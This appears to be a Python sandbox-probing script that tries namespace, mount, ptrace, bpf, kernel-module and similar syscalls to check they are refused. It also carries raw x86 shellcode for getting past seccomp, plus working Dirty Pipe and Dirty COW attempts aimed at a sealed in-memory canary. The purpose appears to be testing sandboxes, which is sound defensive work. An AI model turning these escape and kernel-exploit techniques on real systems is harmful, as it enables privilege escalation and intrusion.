# System calls that lead out of a sandbox, or into the kernel's rarely walked parts. Each answer is the
# kernel's own; namespaces that somebody did get are seen by the host.

NEW = {"mount": 0x00020000, "cgroup": 0x02000000, "uts": 0x04000000, "ipc": 0x08000000, "user": 0x10000000,
       "pid": 0x20000000, "net": 0x40000000, "time": 0x00000080}
AT_FDCWD = -100

# Namespaces

for kind, flag in NEW.items():
    attempt("E01.unshare-" + kind, lambda: do_call("unshare", flag), hold=True)


@attack("E01.clone-user", hold=True)
def _():
    # Both processes go on from here; the new one is the one to look at.
    pid = call("clone", NEW["user"] | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        call_me(P["ids"].index("E01.clone-user"))
        time.sleep(1)
        os._exit(0)


@attack("E01.clone3-user", hold=True)
def _():
    arguments = (ctypes.c_uint64 * 11)(NEW["user"], 0, 0, 0, signal.SIGCHLD)
    pid = call("clone3", arguments, ctypes.sizeof(arguments))
    if pid == 0:
        call_me(P["ids"].index("E01.clone3-user"))
        time.sleep(1)
        os._exit(0)


@attack("E03.setns-own", hold=True)
def _():
    do_call("setns", os.open("/proc/self/ns/uts", os.O_RDONLY), 0)


@attack("E03.setns-first")
def _():
    do_call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0)


attempt("E03.chroot", lambda: do_call("chroot", b"/tmp"))

# Mounts

attempt("E02.mount-tmpfs", lambda: do_call("mount", b"none", b"/tmp", b"tmpfs", 0, None))
attempt("E02.mount-proc", lambda: do_call("mount", b"proc", b"/tmp", b"proc", 0, None))
attempt("E02.mount-sysfs", lambda: do_call("mount", b"sysfs", b"/tmp", b"sysfs", 0, None))
attempt("E02.mount-bind", lambda: do_call("mount", b"/proc", b"/tmp", None, 0x1000, None))
attempt("E02.mount-overlay", lambda: reach("mount", b"overlay", b"/tmp", b"overlay", 0, b"lowerdir=/nowhere"))
attempt("E02.mount-cgroup", lambda: reach("mount", b"c", b"/tmp", b"cgroup", 0, b"memory"))
attempt("E02.remount-root", lambda: do_call("mount", b"none", b"/", None, 0x20 | 0x1000, None))
attempt("E02.make-shared", lambda: do_call("mount", b"none", b"/", None, 0x100000, None))
attempt("E02.umount", lambda: do_call("umount2", b"/dev/mqueue", 2))
attempt("E02.pivot_root", lambda: reach("pivot_root", b"/nowhere", b"/nowhere"))
attempt("E02.open_tree", lambda: do_call("open_tree", AT_FDCWD, b"/", 1))
attempt("E02.move_mount", lambda: reach("move_mount", -1, b"", -1, b"", 4))
attempt("E02.fsopen", lambda: do_call("fsopen", b"tmpfs", 0))
attempt("E02.fsconfig", lambda: reach("fsconfig", -1, 6, None, None, 0))
attempt("E02.fsmount", lambda: reach("fsmount", -1, 0, 0))
attempt("E02.fspick", lambda: do_call("fspick", AT_FDCWD, b"/dev/shm", 0))
attempt("E02.mount_setattr", lambda: reach("mount_setattr", AT_FDCWD, b"/tmp", 0, (ctypes.c_uint64 * 4)(), 32))

# The kernel's stores, virtual machines and rings

attempt("E04.add_key", lambda: do_call("add_key", b"user", b"attack", b"x", 1, -2))
attempt("E04.keyctl", lambda: do_call("keyctl", 0, -2, 1))
attempt("E04.request_key", lambda: reach("request_key", b"user", b"attack-none", None, -2))


@attack("E05.bpf")
def _():
    do_call("bpf", 0, (ctypes.c_uint32 * 32)(2, 4, 4, 1), 128)  # BPF_MAP_CREATE of an array


@attack("E05.perf_event_open")
def _():
    attributes = (ctypes.c_uint32 * 32)(1, 128)  # PERF_TYPE_SOFTWARE
    attributes[2] = 0
    do_call("perf_event_open", attributes, 0, -1, -1, 0)


attempt("E05.userfaultfd", lambda: do_call("userfaultfd", 0))
attempt("E05.memfd_secret", lambda: reach("memfd_secret", 0))
attempt("E05.fanotify_init", lambda: do_call("fanotify_init", 0x200, 0))  # Reports names only: needs no privilege.
attempt("E05.name_to_handle_at", lambda: reach("name_to_handle_at", AT_FDCWD, b"/", (ctypes.c_uint32 * 40)(128), (ctypes.c_int * 1)(), 0))
attempt("E05.open_by_handle_at", lambda: reach("open_by_handle_at", AT_FDCWD, (ctypes.c_uint32 * 4)(8, 1, 2, 0), 0))
attempt("E06.io_uring_setup", lambda: do_call("io_uring_setup", 1, (ctypes.c_uint32 * 40)()))
attempt("E06.io_uring_enter", lambda: reach("io_uring_enter", -1, 0, 0, 0, None, 0))
attempt("E06.io_uring_register", lambda: reach("io_uring_register", -1, 0, None, 0))
attempt("E06.io_setup", lambda: do_call("io_setup", 1, (ctypes.c_uint64 * 1)()))

# Other processes


def with_sibling(do):
    """Against a process of the same user, which waits."""
    pid = os.fork()
    if pid == 0:
        LIBC.prctl(1, signal.SIGKILL, 0, 0, 0)
        time.sleep(20)
        os._exit(0)
    time.sleep(0.02)
    try:
        return do(pid)
    finally:
        os.kill(pid, signal.SIGKILL)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


BUFFER = ctypes.create_string_buffer(b"x" * 16)
HERE = Vector(ctypes.addressof(BUFFER), 8)

attempt("E08.ptrace-traceme", lambda: do_call("ptrace", 0, 0, 0, 0))
attempt("E08.ptrace-attach", lambda: with_sibling(lambda pid: do_call("ptrace", 16, pid, 0, 0)))
attempt("E08.ptrace-first", lambda: do_call("ptrace", 0x4206, 1, 0, 0))
attempt("E08.process_vm_readv", lambda: with_sibling(
    lambda pid: do_call("process_vm_readv", pid, ctypes.byref(HERE), 1, ctypes.byref(HERE), 1, 0)))
attempt("E08.process_vm_writev", lambda: with_sibling(
    lambda pid: do_call("process_vm_writev", pid, ctypes.byref(HERE), 1, ctypes.byref(HERE), 1, 0)))
attempt("E08.process_madvise", lambda: reach("process_madvise", -1, ctypes.byref(HERE), 1, 4, 0))
attempt("E08.pidfd_open", lambda: do_call("pidfd_open", os.getpid(), 0))
attempt("E08.pidfd_getfd", lambda: reach("pidfd_getfd", -1, 0, 0))
attempt("E08.pidfd_send_signal", lambda: reach("pidfd_send_signal", -1, 0, None, 0))
attempt("E08.kcmp", lambda: with_sibling(lambda pid: reach("kcmp", os.getpid(), pid, 0, 0, 0)))
attempt("E08.move_pages", lambda: do_call("move_pages", 0, 0, None, None, None, 0))

# The machine itself. Nothing here would change it: where a call is not refused, its arguments are wrong.

attempt("E09.init_module", lambda: reach("init_module", None, 0, b""))
attempt("E09.finit_module", lambda: reach("finit_module", -1, b"", 0))
attempt("E09.delete_module", lambda: reach("delete_module", b"attack_no_such_module", 0o4000))
attempt("E09.kexec_load", lambda: reach("kexec_load", 0, 0, None, 0xFFFF))
attempt("E09.kexec_file_load", lambda: reach("kexec_file_load", -1, -1, 0, None, 0xFFFF))
attempt("E09.reboot", lambda: reach("reboot", 0xFEE1DEAD, 672274793, 0x0BADC0DE, None))
attempt("E09.swapon", lambda: reach("swapon", b"/nowhere", 0))
attempt("E09.swapoff", lambda: reach("swapoff", b"/nowhere"))
attempt("E09.settimeofday", lambda: reach("settimeofday", (ctypes.c_int64 * 2)(0, -1), None))
attempt("E09.clock_settime", lambda: reach("clock_settime", 0, (ctypes.c_int64 * 2)(0, -1)))
attempt("E09.adjtimex", lambda: do_call("adjtimex", (ctypes.c_uint64 * 40)()))
attempt("E09.clock_adjtime", lambda: do_call("clock_adjtime", 0, (ctypes.c_uint64 * 40)()))
attempt("E09.sethostname", lambda: do_call("sethostname", b"attacked", 8))
attempt("E09.setdomainname", lambda: do_call("setdomainname", b"attacked", 8))
attempt("E09.syslog", lambda: do_call("syslog", 3, ctypes.create_string_buffer(64), 64))
attempt("E09.quotactl", lambda: reach("quotactl", 0x800001 << 8, b"/nowhere", 0, None))
attempt("E09.acct", lambda: reach("acct", b"/nowhere"))
attempt("E09.personality", lambda: do_call("personality", 0x0040000))  # No randomised addresses.
attempt("E09.modify_ldt", lambda: reach("modify_ldt", 0, ctypes.create_string_buffer(64), 64))
attempt("E09.ioperm", lambda: do_call("ioperm", 0x80, 1, 1))
attempt("E09.iopl", lambda: do_call("iopl", 3))
attempt("E09.vhangup", lambda: do_call("vhangup"))
attempt("E09.mbind", lambda: reach("mbind", None, 0, 0, None, 0, 0))
attempt("E09.set_mempolicy", lambda: do_call("set_mempolicy", 0, None, 0))
attempt("E09.sync", lambda: do_call("sync"))

# Page-cache tricks begin with these

attempt("E22.splice", lambda: reach("splice", -1, None, -1, None, 1, 0))
attempt("E22.tee", lambda: reach("tee", -1, -1, 1, 0))
attempt("E22.vmsplice", lambda: reach("vmsplice", -1, ctypes.byref(HERE), 1, 0))

# Past the filter's idea of what a call is: 32-bit entries, x32 numbers, code of one's own


@attack("E07.int80-getpid")
def _():
    if not X86:
        return "absent: not on %s" % platform.machine()
    # push rbx; mov eax, 20; int 0x80; pop rbx; ret
    answer = machine_code(b"\x53\xb8\x14\0\0\0\xcd\x80\x5b\xc3")()
    return "done" if answer == os.getpid() else name_of(-ctypes.c_int32(answer & 0xFFFFFFFF).value)


@attack("E07.int80-socketcall")
def _():
    if not X86:
        return "absent: not on %s" % platform.machine()

    def code(address):
        # push rbx; mov eax, 102 (socketcall); mov ebx, 1 (socket); mov ecx, arguments; int 0x80; pop rbx; ret
        head = b"\x53\xb8\x66\0\0\0\xbb\x01\0\0\0\xb9" + struct.pack("<I", address + 64) + b"\xcd\x80\x5b\xc3"
        return head.ljust(64, b"\x90") + struct.pack("<III", 40, 1, 0)  # AF_VSOCK, SOCK_STREAM

    answer = ctypes.c_int32(machine_code(code, low=True)() & 0xFFFFFFFF).value
    if answer < 0:
        raise OSError(-answer, "socketcall")
    try:
        socket.socket(fileno=answer).close()
    except OSError:
        # A kernel without that door takes the number for one of its own calls.
        return "no socket: %s" % answer


@attack("E07.x32-getpid")
def _():
    if not X86:
        return "absent: not on %s" % platform.machine()
    ctypes.set_errno(0)
    if LIBC.syscall(0x40000000 | 39) == -1:
        raise OSError(ctypes.get_errno(), "x32")


@attack("E19.shellcode-unshare", hold=True)
def _():
    if not X86:
        return "absent: not on %s" % platform.machine()
    # mov eax, 272 (unshare); mov edi, CLONE_NEWUSER; syscall; ret
    answer = machine_code(b"\xb8\x10\x01\0\0\xbf\0\0\0\x10\x0f\x05\xc3")()
    if answer:
        raise OSError(-answer, "unshare")


@attack("E19.memfd-exec")
def _():
    # The interpreter itself, run from memory, has no more rights than it had.
    copy = os.memfd_create("attack")
    with open(os.path.realpath(sys.executable), "rb") as file:
        while True:
            part = file.read(1 << 20)
            if not part:
                break
            os.write(copy, part)
    import subprocess

    program = "import ctypes; l = ctypes.CDLL(None, use_errno=True); " \
              "print(l.unshare(0x10000000), ctypes.get_errno())"
    ran = subprocess.run([sys.executable, "-I", "-c", program], executable="/proc/self/fd/%d" % copy,
                         pass_fds=[copy], capture_output=True, text=True, timeout=8)
    answer, number = ran.stdout.split()
    if answer != "0":
        raise OSError(int(number), "unshare")


@attack("E19.seccomp-loosen")
def _():
    # A filter can only be added, never replaced: one that allows everything must change nothing.
    class Program(ctypes.Structure):
        _fields_ = [("length", ctypes.c_ushort), ("filter", ctypes.c_void_p)]

    allow = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000))
    program = Program(1, ctypes.addressof(allow))
    LIBC.prctl(38, 1, 0, 0, 0)
    call("seccomp", 1, 0, ctypes.byref(program))
    do_call("unshare", 0x10000000)


# Flaws by which a read changes what was read. The canary is a file in memory that nobody may write to any more, so that
# an attempt that succeeds harms nothing.

CANARY = b"the canary is as it was\n" * 200


def canary():
    import fcntl

    file = os.memfd_create("canary", os.MFD_ALLOW_SEALING)
    os.write(file, CANARY)
    fcntl.fcntl(file, fcntl.F_ADD_SEALS, fcntl.F_SEAL_WRITE | fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_GROW)
    return file


def look_at(file):
    if os.pread(file, len(CANARY), 0) != CANARY:
        return "done"
    return "absent: the canary is as it was"


def through_a_pipe(move):
    """Dirty Pipe: what is written behind a page in a pipe is written into the page."""
    import fcntl

    file = canary()
    reader, writer = os.pipe()
    # Every place of the pipe has been written to: that is what the flaw does not forget.
    size = fcntl.fcntl(writer, 1032)
    os.write(writer, bytes(size))
    while size > 0:
        size -= len(os.read(reader, size))
    if move(file, writer) != 1:
        return "broken: not one byte was moved"
    os.write(writer, b"CHANGED")
    if os.read(reader, 100) != CANARY[:1] + b"CHANGED":
        return "broken: the pipe has something else"
    return look_at(file)


def by_splice(file, writer):
    os.lseek(file, 0, os.SEEK_SET)
    moved = LIBC.splice(file, None, writer, None, ctypes.c_size_t(1), 0)
    if moved < 0:
        raise OSError(ctypes.get_errno(), "splice")
    return moved


attempt("E22.splice-canary", lambda: through_a_pipe(by_splice))
attempt("E22.sendfile-canary", lambda: through_a_pipe(lambda file, writer: os.sendfile(writer, file, 0, 1)))


@attack("E22.copied-canary")
def _():
    # Dirty COW: a private copy is given back while it is written to, so that the write meets the page itself.
    import threading

    file = canary()
    LIBC.mmap.restype = ctypes.c_void_p
    place = LIBC.mmap(None, ctypes.c_size_t(len(CANARY)), 1, 2, file, ctypes.c_long(0))
    if place in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mmap")
    until = time.monotonic() + 1

    def give_back():
        while time.monotonic() < until:
            LIBC.madvise(ctypes.c_void_p(place), ctypes.c_size_t(len(CANARY)), 4)

    giving = threading.Thread(target=give_back)
    memory = os.open("/proc/self/mem", os.O_RDWR)
    giving.start()
    try:
        while time.monotonic() < until:
            os.pwrite(memory, b"CHANGED", place)
    finally:
        giving.join()
    return look_at(file)


linger()
